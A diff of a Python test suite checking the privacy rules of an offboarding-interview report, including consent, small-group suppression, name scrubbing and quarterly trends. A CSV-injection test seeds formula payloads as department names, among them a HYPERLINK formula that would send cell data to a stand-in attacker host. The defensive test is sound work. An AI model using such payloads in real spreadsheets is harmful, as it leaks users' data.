@@ -1,25 +1,32 @@
 """Each privacy rule of the report, proved on data built to break it (SQLite, and PostgreSQL with
-OFFBOARDING_TEST_DATABASE_URL). Every test reports on its own month in its own year, so no test, nor
-any trend line, sees another test's cases."""
+OFFBOARDING_TEST_DATABASE_URL). Every test reports on its own quarter in its own year, so no test, nor
+any trend line, sees another test's cases or reports."""
 
+import csv
+import io
 from datetime import date, datetime, time, timedelta, timezone
 
 import pytest
 from pydantic import ValidationError
 
 from bench.seed_reports import closed_case, interview, record
+from cases import consent
+from privacy import retention
+from privacy.audit import Auditor
 from models.report import CountTable, ReportPolicy
-from reports.aggregate import compile_figures
+from reports import periods, published
+from reports.aggregate import compile_figures, compile_report, shown_count
 from reports.render import render_csv, render_html
 from reports.suppression import protect
+from reports.tables import ReportRow
+from tests.report_support import csv_rows
 
 K = 5
 NOW = datetime(2026, 11, 1, tzinfo=timezone.utc)
 
 
-def month(year: int, number: int) -> tuple[date, date]:
-    first = date(year, number, 1)
-    return first, (first.replace(day=28) + timedelta(days=4)).replace(day=1) - timedelta(days=1)
+def quarter(year: int, number: int) -> tuple[date, date]:
+    return periods.period_containing(date(year, number * 3, 1), "quarter")
 
 
 def closing_in(period: tuple[date, date]) -> datetime:
@@ -45,6 +52,16 @@ async def figures_for(sessions, period, k: int = K, as_of: datetime = NOW):
         return await compile_figures(session, report_id="test", start=period[0], end=period[1], zone="Europe/Amsterdam", k=k, as_of=as_of)
 
 
+async def publish(sessions, period, k: int = K, as_of: datetime = NOW) -> str:
+    """Compile and store the period's report, as the report activity does."""
+    report_id = periods.report_id(*period)
+    async with sessions.begin() as session:
+        compiled = await compile_report(session, report_id=report_id, start=period[0], end=period[1], zone="Europe/Amsterdam", k=k, as_of=as_of)
+        row = ReportRow(id=report_id, revision=1, run_id="test", period_start=period[0], period_end=period[1], status="published", requested_by="test")
+        published.add(session, row, compiled)
+    return report_id
+
+
 def cells(table: CountTable) -> dict[str, int | None]:
     return {cell.key: cell.count for cell in table.cells}
 
@@ -58,17 +75,16 @@ def section(figures, topic: str):
 
 
 def assert_not_derivable(table: CountTable, k: int = K) -> None:
-    """Whatever a reader can compute from the shown total and shown cells covers at least k people in two or more cells."""
-    hidden = [c for c in table.cells if c.count is None]
-    if table.total is None or not hidden:
+    """Whatever a reader can compute from the shown total and shown cells covers at least k people; nothing hidden is named."""
+    assert all(c.count is not None for c in table.cells)
+    if table.total is None or table.other is None:
         return
-    assert len(hidden) >= 2
-    assert table.total - sum(c.count for c in table.cells if c.count is not None) >= k
+    assert table.other == table.total - sum(c.count for c in table.cells) and table.other >= k
 
 
 # Consent.
 async def test_only_interviews_with_consent_for_the_experiences_count_in_ratings_and_reasons(sessions):
-    period = month(1991, 6)
+    period = quarter(1991, 2)
     await seed(sessions, period, [record(rating=5, recommend=10, primary="workload", went_well="Goede sfeer.") for _ in range(5)])
     await seed(sessions, period, [record(rating=1, recommend=0, primary="manager", went_well="Niets ging goed.", most_important_advice="Alleen advies.") for _ in range(5)], scope="advice_only")
     await seed(sessions, period, [record(rating=1, recommend=0, primary="manager", went_well="Geheim.", most_important_advice="Geheim advies.") for _ in range(5)], scope="nothing")
@@ -87,7 +103,7 @@ async def test_only_interviews_with_consent_for_the_experiences_count_in_ratings
 
 
 async def test_a_consent_revoked_before_the_report_leaves_it(sessions):
-    period = month(1992, 6)
+    period = quarter(1992, 2)
     await seed(sessions, period, [record(rating=4, should_improve="Meer overleg.") for _ in range(6)])
     await seed(sessions, period, [record(rating=1, primary="manager", should_improve="Ingetrokken verhaal.")], revoked_at=NOW - timedelta(days=1))
     await seed(sessions, period, [record(rating=2, primary="health", should_improve="Later ingetrokken.")], revoked_at=NOW + timedelta(days=1))
@@ -102,14 +118,14 @@ async def test_a_consent_revoked_before_the_report_leaves_it(sessions):
     later = await figures_for(sessions, period, as_of=NOW + timedelta(days=2))
     assert later.respondents == 6 and rating(later, "work_content").mean == 4.0
     # Held (8) against respondents (6) would count the revocations: held and the rate give way.
-    assert cells(later.interview_response)["held"] is None and later.response_rate is None
+    assert shown_count(later.interview_response, "held") is None and later.response_rate is None
     assert_not_derivable(later.interview_response)
     assert next(t for t in later.trends if t.metric == "response_rate").points[-1].value is None
 
 
 # Small groups.
 async def test_everything_resting_on_fewer_than_k_respondents_is_suppressed(sessions):
-    period = month(1993, 6)
+    period = quarter(1993, 2)
     await seed(sessions, period, [record(rating=2, recommend=3, went_well="Herkenbaar verhaal.", target_group={"gender": "woman"}) for _ in range(4)])
 
     figures = await figures_for(sessions, period)
@@ -126,7 +142,7 @@ async def test_everything_resting_on_fewer_than_k_respondents_is_suppressed(sess
 
 
 async def test_a_group_of_exactly_k_is_shown_and_k_is_never_below_three(sessions):
-    period = month(1994, 6)
+    period = quarter(1994, 2)
     await seed(sessions, period, [record(rating=3) for _ in range(3)])
 
     assert (await figures_for(sessions, period, k=3)).respondents == 3
@@ -156,7 +172,7 @@ def test_a_total_below_k_hides_the_whole_table():
 
 
 async def test_departures_by_department_cannot_be_recovered_by_subtraction(sessions):
-    period = month(1995, 6)
+    period = quarter(1995, 2)
     for department, count in (("Finance", 7), ("Sales", 6), ("Legal", 2)):
         await seed(sessions, period, [record() for _ in range(count)], department=department)
 
@@ -164,31 +180,30 @@ async def test_departures_by_department_cannot_be_recovered_by_subtraction(sessi
 
     departments = cells(figures.departures_by_department)
     assert figures.departures_by_department.total == 15
-    assert departments == {"Finance": 7, "Sales": None, "Legal": None}
+    assert departments == {"Finance": 7} and figures.departures_by_department.other == 8
     assert_not_derivable(figures.departures_by_department)
     # The same people, as respondents per department: a hidden group's means would follow from the overall mean.
-    groups = {g.key: g for g in next(b for b in figures.breakdowns if b.dimension == "department").groups}
-    assert groups["Finance"].respondents == 7 and groups["Finance"].means["work_content"] == 4.0
-    assert groups["Sales"].respondents is None and groups["Legal"].respondents is None
-    assert groups["Sales"].means["recommend"] is None
+    breakdown = next(b for b in figures.breakdowns if b.dimension == "department")
+    assert [(g.key, g.respondents, g.means["work_content"]) for g in breakdown.groups] == [("Finance", 7, 4.0)]
+    assert breakdown.other == 8
 
 
 async def test_target_groups_include_those_who_gave_nothing_so_no_group_is_left_to_derive(sessions):
-    period = month(1996, 6)
+    period = quarter(1996, 2)
     await seed(sessions, period, [record(target_group={"gender": "woman"}) for _ in range(6)])
     await seed(sessions, period, [record(target_group={"gender": "man"}) for _ in range(5)])
     await seed(sessions, period, [record(rating=1, target_group={"gender": "non_binary"})])
 
     figures = await figures_for(sessions, period)
 
-    gender = {g.key: g.respondents for g in next(b for b in figures.breakdowns if b.dimension == "gender").groups}
-    assert gender == {"woman": 6, "man": None, "non_binary": None}
+    breakdown = next(b for b in figures.breakdowns if b.dimension == "gender")
+    assert {g.key: g.respondents for g in breakdown.groups} == {"woman": 6} and breakdown.other == 6
     assert figures.respondents == 12
 
 
 async def test_a_distribution_shown_beside_its_mean_is_all_or_nothing(sessions):
     # Five 5s and one 1: showing the count of 5s with the mean would give away the lone 1.
-    period = month(1997, 6)
+    period = quarter(1997, 2)
     await seed(sessions, period, [record(rating=5, recommend=10) for _ in range(5)] + [record(rating=1, recommend=2)])
 
     figures = await figures_for(sessions, period)
@@ -201,7 +216,7 @@ async def test_a_distribution_shown_beside_its_mean_is_all_or_nothing(sessions):
 
 
 async def test_a_distribution_without_small_cells_is_shown(sessions):
-    period = month(1998, 6)
+    period = quarter(1998, 2)
     await seed(sessions, period, [record(rating=4, recommend=9) for _ in range(5)] + [record(rating=2, recommend=5) for _ in range(5)])
 
     figures = await figures_for(sessions, period)
@@ -210,27 +225,31 @@ async def test_a_distribution_without_small_cells_is_shown(sessions):
     assert (figures.recommend.promoters, figures.recommend.detractors, figures.recommend.nps) == (5, 5, 0.0)
 
 
-async def test_hidden_cells_are_listed_by_name_not_by_their_hidden_size(sessions):
-    period = month(1999, 6)
+async def test_hidden_cells_are_not_named_anywhere_only_counted_together(sessions):
+    period = quarter(1999, 2)
     await seed(sessions, period, [record(primary="workload") for _ in range(8)])
     await seed(sessions, period, [record(primary="studies") for _ in range(4)])
     await seed(sessions, period, [record(primary="commute")])
 
     figures = await figures_for(sessions, period)
 
-    assert [c.key for c in figures.primary_reasons.cells] == ["workload", "commute", "studies"]
-    assert cells(figures.primary_reasons) == {"workload": 8, "commute": None, "studies": None}
+    assert cells(figures.primary_reasons) == {"workload": 8} and figures.primary_reasons.other == 5
+    reasons = [row for row in csv_rows(render_csv(figures)) if row["section"] == "reasons" and row["dimension"] == "primary"]
+    assert {row["key"] for row in reasons} == {"total", "workload", ""}
+    for text in (figures.model_dump_json(), render_html(figures, "en"), render_html(figures, "nl")):
+        assert "studies" not in text and "commute" not in text.lower() and "Woon-werkverkeer" not in text
 
 
 async def test_a_trend_resting_on_a_small_previous_period_is_suppressed(sessions):
-    before, now = month(2000, 5), month(2000, 6)
+    before, now = quarter(2000, 1), quarter(2000, 2)
     await seed(sessions, before, [record(rating=1) for _ in range(3)])
     await seed(sessions, now, [record(rating=4) for _ in range(6)])
+    await publish(sessions, before)
 
     figures = await figures_for(sessions, now)
 
     trend = next(t for t in figures.trends if t.metric == "work_content")
-    assert [p.label for p in trend.points][-2:] == ["2000-05", "2000-06"]
+    assert [p.label for p in trend.points][-2:] == ["2000-Q1", "2000-Q2"] and figures.previous_label == "2000-Q1"
     assert trend.points[-2].value is None and trend.points[-2].base is None
     assert trend.points[-1].value == 4.0 and trend.delta is None
     departures = next(t for t in figures.trends if t.metric == "departures")
@@ -238,18 +257,32 @@ async def test_a_trend_resting_on_a_small_previous_period_is_suppressed(sessions
 
 
 async def test_a_trend_is_shown_when_both_periods_are_large_enough(sessions):
-    before, now = month(2001, 5), month(2001, 6)
+    before, now = quarter(2001, 1), quarter(2001, 2)
     await seed(sessions, before, [record(rating=2) for _ in range(5)])
     await seed(sessions, now, [record(rating=4) for _ in range(5)])
+    await publish(sessions, before)
 
     trend = next(t for t in (await figures_for(sessions, now)).trends if t.metric == "work_content")
 
     assert (trend.points[-2].value, trend.points[-1].value, trend.delta) == (2.0, 4.0, 2.0)
 
 
+async def test_without_an_earlier_report_the_trend_has_only_this_period(sessions):
+    # Cases in the quarter before, but no report on it (nor on any earlier period): its figures are never made up afterwards.
+    before, now = quarter(1950, 1), quarter(1950, 2)
+    await seed(sessions, before, [record(rating=2) for _ in range(5)])
+    await seed(sessions, now, [record(rating=4) for _ in range(5)])
+
+    figures = await figures_for(sessions, now)
+
+    trend = next(t for t in figures.trends if t.metric == "work_content")
+    assert [(p.label, p.value) for p in trend.points] == [("1950-Q2", 4.0)] and trend.delta is None
+    assert figures.previous_label is None
+
+
 # Free text.
 async def test_free_text_shows_only_when_enough_people_wrote_it(sessions):
-    period = month(2002, 6)
+    period = quarter(2002, 2)
     await seed(sessions, period, [record(went_well="Fijne collega's.", most_important_advice="Investeer in mensen.") for _ in range(2)])
     await seed(sessions, period, [record(most_important_advice=f"Advies {n}.") for n in range(3)])
 
@@ -264,8 +297,8 @@ async def test_free_text_shows_only_when_enough_people_wrote_it(sessions):
 
 async def test_names_and_email_addresses_are_removed_from_free_text(sessions):
     # A colleague from another case: her name must go wherever it is capitalised.
-    await seed(sessions, month(2003, 1), [None], employee_name="Roos Verbeek", manager_name="Karel Maes")
-    period = month(2003, 6)
+    await seed(sessions, quarter(2003, 1), [None], employee_name="Roos Verbeek", manager_name="Karel Maes")
+    period = quarter(2003, 2)
     text = (
         "Met anouk kon ik goed praten, maar Bram Janssens luisterde niet. "
         "Meneer Janssens mailde vanaf b.janssens@example.org. Roos Verbeek hielp wel; een roos voor haar."
@@ -283,10 +316,61 @@ async def test_names_and_email_addresses_are_removed_from_free_text(sessions):
 
 
 async def test_the_csv_holds_aggregated_figures_only(sessions):
-    period = month(2004, 6)
+    period = quarter(2004, 2)
     await seed(sessions, period, [record(went_well="Tekst die niet in de CSV hoort.") for _ in range(5)], employee_name="Sanne Peeters")
 
     csv = render_csv(await figures_for(sessions, period))
 
     assert "Tekst die niet" not in csv and "Sanne" not in csv and "offboarding-" not in csv
-    assert "ratings,work_content,all,mean,4.0,5," in csv
+    mean = next(row for row in csv_rows(csv) if (row["section"], row["dimension"], row["measure"]) == ("ratings", "work_content", "mean"))
+    assert (mean["value"], mean["base"], mean["suppressed"]) == ("4.0", "5", "")
+
+
+# The CSV in a spreadsheet.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+31 Sales", "-2+3", "@SUM(A1:A9)", "\tTab Team", "\rCR Team"]
+
+
+async def test_no_csv_cell_a_spreadsheet_would_run_as_a_formula(sessions):
+    period = quarter(2006, 2)
+    for department in FORMULAS:
+        await seed(sessions, period, [record(rating=4) for _ in range(5)], department=department)
+
+    text = render_csv(await figures_for(sessions, period))
+
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows for cell in row]
+    # Every department shows (departures and the breakdown), each time as text behind a single quote, never bare.
+    for department in FORMULAS:
+        assert "'" + department in cells and department not in cells, department
+    # No other cell starts like a formula, but for the numbers the report writes itself (a negative change).
+    for cell in cells:
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            float(cell)
+    # And every such cell is quoted, so the quote prefix stays part of the text.
+    for department in FORMULAS:
+        assert '"' + ("'" + department).replace('"', '""') + '"' in text
+
+
+# A published report's free text.
+async def test_a_published_report_keeps_its_figures_and_loses_the_text_of_a_revocation_or_an_erasure(sessions):
+    period = quarter(2007, 2)
+    await seed(sessions, period, [record(rating=4, should_improve=f"Meer overleg {n}.") for n in range(5)])
+    [revoked] = await seed(sessions, period, [record(rating=1, should_improve="Ingetrokken na publicatie.")])
+    [erased] = await seed(sessions, period, [record(rating=2, should_improve="Gewist na de bewaartermijn.")])
+    report_id = await publish(sessions, period)
+
+    async def read():
+        async with sessions() as session:
+            return await published.figures_of(session, await session.get(ReportRow, report_id))
+
+    before = await read()
+    assert {"Ingetrokken na publicatie.", "Gewist na de bewaartermijn."} <= set(section(before, "should_improve").texts)
+    async with sessions.begin() as session:
+        await consent.revoke(session, revoked)
+        await retention.erase_interview_content(session, erased, by=Auditor("system", frozenset({"system"})))
+
+    after = await read()
+    assert section(after, "should_improve").texts == [f"Meer overleg {n}." for n in range(5)]
+    # The figures stay as published: a figure made again without them would show what they answered.
+    assert after.model_dump(exclude={"free_text"}) == before.model_dump(exclude={"free_text"})
+    assert rating(after, "work_content").mean == round((5 * 4 + 1 + 2) / 7, 2)
